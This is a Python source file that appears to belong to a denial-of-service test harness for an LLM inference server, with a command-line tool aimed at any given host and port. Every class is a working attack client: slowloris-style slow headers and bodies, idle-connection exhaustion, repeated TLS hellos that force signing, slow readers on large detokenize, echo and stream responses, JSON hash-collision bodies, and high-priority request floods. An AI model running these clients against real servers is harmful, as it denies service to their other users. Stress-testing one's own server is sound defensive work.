"""What somebody sends who wants to take a server from its other users: each attack as a client of the standard library.

    python3 attack_clients.py NAME HOST PORT [--count N] [--key KEY] [--field name=json …] [--address 127.0.0.2]

runs one attack with so many clients until its standard input ends. It prints "ready" once every client has been in place
(or was sent away), and for each line of input and in the end one line of JSON with what the clients were answered. attacks.py
starts it.
"""
import argparse
import asyncio
import collections
import contextlib
import itertools
import json
import logging
import os
import resource
import socket
import ssl
import sys
import threading
import time

import attack_grammars
from attack_keys import known_hash_keys, object_text, salted_fnv_keys

MIB = 1 << 20
BODY = 4 * MIB  # the server's limit on a body


def raise_file_limit():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def head(method, path, key="", length=None, more=()):
    """A request's first line and headers."""
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json", *more]
    if key:
        lines.append(f"Authorization: Bearer {key}")
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n"


def request(method, path, body, key=""):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return head(method, path, key, len(data)) + data


class Attack:
    """`count` clients, each a coroutine that goes on until it is cancelled."""

    COUNT = 32
    PAUSE = 1.0  # seconds before a client comes back

    def __init__(self, args):
        self.host, self.port, self.key, self.address = args.host, args.port, args.key, args.address
        self.count = args.count or self.COUNT
        self.fields = dict(field.split("=", 1) for field in args.field)
        self.answers = collections.Counter()
        self.placed = set()
        self.ready = asyncio.Event()

    def field(self, name, default):
        return type(default)(json.loads(self.fields[name])) if name in self.fields else default

    async def prepare(self):
        """Once, before the clients."""

    async def client(self, index):
        """One attempt."""
        raise NotImplementedError

    async def connect(self, receive_buffer=None):
        local = (self.address, 0) if self.address else None
        reader, writer = await asyncio.open_connection(self.host, self.port, local_addr=local, limit=MIB)
        if receive_buffer:
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        return reader, writer

    def place(self, index):
        """The client of this number does what it came for; below 0: it only prepares."""
        if index >= 0:
            self.placed.add(index)
        if len(self.placed) == self.count:
            self.ready.set()

    async def answer(self, index, reader):
        """Reads the head of an answer; its status, or None where the connection ends."""
        try:
            line = await reader.readline()
        except (OSError, ValueError):
            line = b""
        status = int(line.split()[1]) if line.startswith(b"HTTP/1.1 ") else None
        if index >= 0:
            self.answers[str(status) if status else "cut"] += 1
        self.place(index)
        return status

    async def ask(self, index, method, path, body):
        """One request, its whole answer read: (status, body)."""
        reader, writer = await self.connect()
        try:
            writer.write(request(method, path, body, self.key))
            with contextlib.suppress(ConnectionError):  # it may be refused before it is read
                await writer.drain()
            self.place(index)
            status = await self.answer(index, reader)
            length, line = 0, b"x"
            while status and line.strip():
                line = await reader.readline()
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            return status, await reader.readexactly(length) if length else await reader.read()
        finally:
            writer.close()

    async def forever(self, index):
        while True:
            try:
                await self.client(index)
            except (OSError, asyncio.IncompleteReadError):
                self.answers["cut"] += 1
            self.place(index)
            await asyncio.sleep(self.PAUSE)

    async def run(self):
        await self.prepare()
        tasks = [asyncio.create_task(self.forever(i)) for i in range(self.count)]
        loop = asyncio.get_running_loop()
        ended = asyncio.Event()

        def listen():
            for _ in sys.stdin:
                loop.call_soon_threadsafe(self.tell)
            loop.call_soon_threadsafe(ended.set)

        threading.Thread(target=listen, daemon=True).start()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(self.ready.wait(), self.field("patience", 20.0))
        os.nice(19)  # not before: twenty attacks that prepare themselves beside a flood took two minutes to be in place
        print("ready", flush=True)
        await ended.wait()
        for task in tasks:
            task.cancel()
        self.tell()

    def tell(self):
        print(json.dumps(dict(self.answers)), flush=True)


class MissingByte(Attack):
    """A body of the largest size but for its last byte, to a route that reads none (field path, method)."""

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(head(self.field("method", "GET"), self.field("path", "/health"), self.key, BODY))
            writer.write(bytes(BODY - 1))
            await writer.drain()
            self.place(index)
            await self.answer(index, reader)
        finally:
            writer.close()


class ChunkedByte(Attack):
    """The same without a length: chunks that never end."""

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(head("POST", self.field("path", "/tokenize"), self.key, more=("Transfer-Encoding: chunked",)))
            for _ in range(BODY // 65536 - 1):
                writer.write(b"10000\r\n" + bytes(65536) + b"\r\n")
                await writer.drain()
            writer.write(b"f000\r\n" + bytes(0xF000))
            await writer.drain()
            self.place(index)
            await self.answer(index, reader)
        finally:
            writer.close()


class Idle(Attack):
    """Connections without a byte, or with `text` and nothing more."""

    COUNT = 1100

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(self.field("text", "").encode())
            self.place(index)
            await self.answer(index, reader)
        finally:
            writer.close()


class Hellos(Attack):
    """Of a TLS handshake the first message, for which the server has to sign, and nothing more: again and again."""

    COUNT = 64
    PAUSE = 0.01

    async def prepare(self):
        outgoing = ssl.MemoryBIO()
        with contextlib.suppress(ssl.SSLWantReadError):
            ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
        self.hello = outgoing.read()

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(self.hello)
            self.answers["signed" if await reader.read(65536) else "cut"] += 1
        finally:
            writer.transport.abort()


class SlowHead(Attack):
    """A header's byte each second."""

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-A: ")
            self.place(index)
            while not reader.at_eof():
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(1)
                if reader._buffer:  # answered: nothing follows
                    break
            await self.answer(index, reader)
        finally:
            writer.close()


class SlowBody(Attack):
    """Most of a large body at once, then a byte each second."""

    async def client(self, index):
        reader, writer = await self.connect()
        try:
            writer.write(head("POST", self.field("path", "/v1/completions"), self.key, BODY))
            writer.write(b" " * self.field("first", BODY - 4096))
            await writer.drain()
            self.place(index)
            while not reader._buffer and not reader.at_eof():
                writer.write(b" ")
                await writer.drain()
                await asyncio.sleep(1)
            await self.answer(index, reader)
        finally:
            writer.close()


class SlowReader(Attack):
    """Asks for much and reads a byte each second."""

    COUNT = 20
    STREAM = False

    def body(self):
        raise NotImplementedError

    async def client(self, index):
        path, body = self.body()
        reader, writer = await self.connect(receive_buffer=4096)
        try:
            writer.transport.pause_reading()
            writer.write(request("POST", path, body, self.key))
            await writer.drain()
            await asyncio.sleep(self.field("pause", 0.0))
            self.place(index)
            sock = writer.get_extra_info("socket")
            begun = time.monotonic()
            while time.monotonic() - begun < self.field("hold", 120.0):
                await asyncio.sleep(1)
                try:
                    data = os.read(sock.fileno(), 1)
                except BlockingIOError:
                    continue
                if not data:
                    break
            self.answers["read"] += 1
        finally:
            writer.close()


class DetokenizeReader(SlowReader):
    """The longest text that /detokenize gives."""

    async def prepare(self):
        best, self.context = (0, 0), 512
        runs = [c * n for c in " -=." for n in (128, 64, 32, 16)] + ["\x00"]
        for text in runs:
            status, data = await self.ask(-1, "POST", "/tokenize", {"text": text})
            if status != 200:
                continue
            reply = json.loads(data)
            self.context = reply["max_model_len"]
            if reply["count"] == 1:
                best = max(best, (len(json.dumps(text)), reply["tokens"][0]))
        self.token = best[1]
        # As many as the server takes.
        self.ids = 250000
        for self.ids in (250000, self.context):
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
                status, _ = await self.ask(-1, "POST", "/detokenize", {"ids": [self.token] * self.ids})
                if status == 200:
                    break

    def body(self):
        return "/detokenize", {"ids": [self.token] * self.ids}


class EchoReader(SlowReader):
    """Prompts with all their scores, in several choices."""

    async def prepare(self):
        self.length = self.field("length", 0)
        if not self.length:
            _, data = await self.ask(-1, "POST", "/tokenize", {"text": "a"})
            self.length = json.loads(data)["max_model_len"] - 8

    def body(self):
        prompts = [[5 + i] * self.length for i in range(self.field("prompts", 1))]
        return "/v1/completions", {"prompt": prompts, "echo": True, "logprobs": 5, "n": self.field("n", 4),
                                   "max_tokens": 1}


class StreamReader(SlowReader):
    """Long streams."""

    def body(self):
        return "/v1/completions", {"prompt": "a", "stream": True, "max_tokens": 100000, "ignore_eos": True,
                                   "logprobs": 5, "n": self.field("n", 8)}


class Choices(EchoReader):
    """The largest answers that can be asked for, read as they come."""

    COUNT = 2
    PAUSE = 0.1

    async def client(self, index):
        path, body = self.body()
        await self.ask(index, "POST", path, body)


class Hash(Attack):
    """Bodies with keys that collide for std::hash (2^bits of them)."""

    COUNT = 2
    PAUSE = 0.1

    async def prepare(self):
        self.data = b'{"prompt":"a","metadata":' + object_text(known_hash_keys(self.field("bits", 13))) + b"}"

    async def client(self, index):
        await self.ask(index, "POST", "/v1/completions", self.data)


def salted_bodies(salts, members=16384, together=8):
    """For each salt a body of such objects, whose keys collide in the table of a JSON object where it lies at an address
    of this salt: of eight tables one after the other some do."""
    for salt in salts:
        text = object_text(salted_fnv_keys(members, salt))
        yield b'{"prompt":"a","metadata":{"x":[' + b",".join([text] * together) + b"]}}"


class SaltedHash(Attack):
    """Bodies of objects whose keys collide, in turns."""

    COUNT = 2
    PAUSE = 0.1

    async def prepare(self):
        self.bodies = itertools.cycle(list(salted_bodies(range(0, 256, 32))))

    async def client(self, index):
        await self.ask(index, "POST", "/v1/completions", next(self.bodies))


class Flood(Attack):
    """One tenant that always has so many requests, at the highest priority it can ask for."""

    COUNT = 500
    PAUSE = 0.02

    async def client(self, index):
        body = {"prompt": [5 + index % 50] * self.field("length", 16), "max_tokens": self.field("tokens", 400),
                "ignore_eos": True, "priority": self.field("priority", 100)}
        await self.ask(index, "POST", "/v1/completions", body)


class Tokenize(Attack):
    """Long texts, cut again and again."""

    COUNT = 8
    PAUSE = 0.1

    async def prepare(self):
        words = b"once upon a time there was a token "
        self.data = b'{"text":"' + words * (self.field("bytes", 3_200_000) // len(words)) + b'"}'

    async def client(self, index):
        await self.ask(index, "POST", "/tokenize", self.data)


class Constrained(Attack):
    """Long streams at the highest priority, held to what attack_grammars.py says (REQUEST; its own fields too)."""

    COUNT = 4
    PAUSE = 0.05
    REQUEST = None

    async def prepare(self):
        self.numbers = itertools.count(time.time_ns() % 1_000_000_000)
        self.own = {name: json.loads(value) for name, value in self.fields.items() if name not in ("tokens", "patience")}

    async def client(self, index):
        path, fields = self.REQUEST(next(self.numbers), **self.own)
        prompt = {} if "messages" in fields else {"prompt": "a"}
        body = {**prompt, "max_tokens": self.field("tokens", 200), "ignore_eos": True, "stream": True, "priority": 100,
                **fields}
        reader, writer = await self.connect()
        try:
            writer.write(request("POST", path, body, self.key))
            await writer.drain()
            self.place(index)
            if await self.answer(index, reader) != 200:
                return
            data = b"x"
            while data and b"[DONE]" not in data and b'"error"' not in data:
                data = await reader.read(65536)
        finally:
            writer.close()


ATTACKS = {
    "missing-byte": MissingByte,
    "chunked-byte": ChunkedByte,
    "idle": Idle,
    "hellos": Hellos,
    "slow-head": SlowHead,
    "slow-body": SlowBody,
    "detokenize-reader": DetokenizeReader,
    "echo-reader": EchoReader,
    "stream-reader": StreamReader,
    "choices": Choices,
    "hash": Hash,
    "salted-hash": SaltedHash,
    "flood": Flood,
    "tokenize": Tokenize,
    **{name: type("Constrained", (Constrained,), {"REQUEST": staticmethod(request)})
       for name, request in attack_grammars.REQUESTS.items()},
}


def main():
    parser = argparse.ArgumentParser(description="One attack on a server of one's own.")
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=0, help="clients")
    parser.add_argument("--key", default="")
    parser.add_argument("--address", default="", help="the address to come from")
    parser.add_argument("--field", action="append", default=[], help="name=json: of this attack")
    args = parser.parse_args()
    raise_file_limit()
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # connections that are cut are what is expected

    async def run():
        await ATTACKS[args.name](args).run()

    asyncio.run(run())


if __name__ == "__main__":
    main()
